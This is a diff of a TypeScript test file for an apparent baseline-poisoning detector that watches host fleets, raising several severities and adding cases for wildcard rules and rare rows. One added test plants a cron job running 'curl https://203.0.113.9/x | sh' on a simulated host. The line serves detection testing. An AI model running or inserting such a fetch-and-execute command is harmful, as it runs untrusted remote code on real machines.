@@ -48,12 +48,12 @@ describe('what a pull request would hide is reported while the fleet is still he
       optional: [['/usr/sbin/<rand>', 'root']]
     })
     expect(await found(fleet(30), clean, programs)).toEqual([
-      poisoningFinding('medium', /programs with a pattern/)
+      poisoningFinding('high', /programs with a pattern/)
     ])
     expect(await found(fleet(30), programs, programs)).toEqual([])
   })
 
-  test('but not a pattern of many variants, which mode baseline writes', async () => {
+  test('a pattern that mode baseline writes for many variants, one step lower', async () => {
     const hosts = fleet(30, (index, rows) => {
       rows.cron?.push({
         path: `/etc/cron.d/job-${(index * 7919 + 0xabcdef12).toString(16)}f1`,
@@ -69,13 +69,31 @@ describe('what a pull request would hide is reported while the fleet is still he
       ...learned,
       queries: { ...learned.queries, cron: { ...cron!, required: named, optional: listed } }
     }
-    expect(await found(hosts, older, learned)).toEqual([])
+    expect(await found(hosts, older, learned)).toEqual([poisoningFinding('medium', /cron with a pattern/)])
+    const wide = { ...cron!, required: [...named, ['/etc/cron.d/<rand>', 'run']], optional: [] }
+    const widened = { ...learned, queries: { ...learned.queries, cron: wide } }
+    expect(await found(hosts, older, widened)).toContainEqual(poisoningFinding('high', /cron with a pattern/))
+  })
+
+  test('a row of an ordinary table that one host has', async () => {
+    const implanted = fleet(30, (index, rows) => {
+      if (index === 4) rows.cron?.push({ path: '/etc/cron.d/x', command: 'curl https://203.0.113.9/x | sh' })
+      if (index === 4) rows.sessions?.push({ user: 'mallory' })
+    })
+    const blessed = adding(clean, 'cron', {
+      optional: [['/etc/cron.d/x', 'curl https://203.0.113.9/x | sh']]
+    })
+    expect(await found(implanted, clean, blessed)).toEqual([
+      poisoningFinding('high', /cron that only 1 of 30 hosts has/, [hostId(4)])
+    ])
+    const context = adding(clean, 'sessions', { optional: [['mallory']] })
+    expect(await found(implanted, clean, context)).toEqual([poisoningFinding('low', /sessions/, [hostId(4)])])
   })
 
   test('a protection that is no longer required', async () => {
     const { required } = clean.queries.guards!
     expect(await found(fleet(30), clean, withQuery('guards', { required: [], optional: required }))).toEqual([
-      poisoningFinding('medium', /^The new baseline no longer requires a row of guards/)
+      poisoningFinding('high', /^The new baseline no longer requires a row of guards/)
     ])
     const lax = {
       ...clean,
@@ -100,9 +118,16 @@ describe('what a pull request would hide is reported while the fleet is still he
       poisoningFinding('high', /accepts more rows of modules/)
     ])
     expect(await found(rolledOut, clean, accepting(clean, 'programs', { path: '**' }))).toEqual([
-      poisoningFinding('medium', /accepts more rows of programs/)
+      poisoningFinding('high', /accepts more rows of programs/)
     ])
     expect(await found(rolledOut, clean, accepting(clean, 'programs', { path: '/opt/agent' }))).toEqual([])
+    for (const match of [{ path: '/etc/*' }, { path: '?*' }, { path: '*/*' }, { path: '/opt/agen?' }])
+      expect(await found(rolledOut, clean, accepting(clean, 'programs', match))).toEqual([
+        poisoningFinding('high', /accepts/)
+      ])
+    expect(await found(rolledOut, clean, accepting(clean, 'programs', { username: 'root' }))).toEqual([
+      poisoningFinding('high', /accepts more rows of programs/)
+    ])
     const known = accepting(clean, 'modules', { name: '*' })
     expect(await found(fleet(30), known, known)).toEqual([])
   })
